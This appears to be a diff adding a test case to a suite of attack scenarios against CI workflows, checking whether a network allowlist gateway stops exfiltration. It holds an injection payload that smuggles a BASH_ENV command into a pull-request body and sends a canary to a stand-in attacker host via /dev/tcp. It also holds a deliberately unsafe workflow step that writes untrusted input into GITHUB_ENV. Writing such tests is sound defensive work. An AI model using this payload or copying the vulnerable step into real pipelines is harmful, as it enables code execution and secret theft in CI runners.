@@ -53,6 +53,27 @@ export const attack: Attack = {
       event: notAsked(({ name }) => name === 'collect.attacker.test'),
     },
     {
+      // The workflow does as it is told to, and quotes; what it writes is read by the runner, line by line.
+      name: 'description-in-a-variable',
+      control: 'the gateway: names not on the allowlist',
+      without: ['gateway'],
+      workflow: {
+        event: 'pull-request',
+        payload: (canary) => ({
+          body: `a fix\nBASH_ENV=$(printf ${canary} >/dev/tcp/collect.attacker.test/80)\n`,
+        }),
+        steps: [
+          {
+            run: 'echo "DESCRIPTION=$BODY" >>"$GITHUB_ENV"',
+            env: { BODY: '${{ github.event.pull_request.body }}' },
+          },
+          { run: 'echo "$DESCRIPTION"' },
+        ],
+      },
+      harm: ({ sink, canary }) => sink.got(canary) && 'the description ran, and called its author',
+      event: notAsked(({ name }) => name === 'collect.attacker.test'),
+    },
+    {
       name: 'description',
       control: 'the gateway: names not on the allowlist',
       without: ['gateway'],
